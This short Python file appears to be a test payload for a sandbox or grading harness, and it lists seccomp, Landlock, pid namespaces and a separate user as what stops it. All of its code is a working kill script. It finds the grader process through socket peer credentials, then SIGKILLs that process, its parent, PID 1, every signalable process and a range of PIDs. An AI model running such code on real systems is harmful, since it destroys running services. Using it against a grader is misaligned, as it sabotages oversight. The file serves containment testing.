# stub: reparameterize
# attack: kills its parent, the first process, the grader at the other end of the line and everybody else
# stopped-by: seccomp, Landlock, pid namespace, own user
import os
import socket
import struct


def peers():
    for number in range(3, 64):
        try:
            line = socket.socket(fileno=os.dup(number))
            yield struct.unpack("3i", line.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
        except OSError:
            continue


for victim in (*peers(), os.getppid(), 1, -1):
    try:
        if victim:  # 0, a process that is not in view, would mean itself
            os.kill(victim, 9)
    except OSError:
        pass
for victim in range(2, 400):
    try:
        if victim != os.getpid():
            os.kill(victim, 9)
    except OSError:
        pass
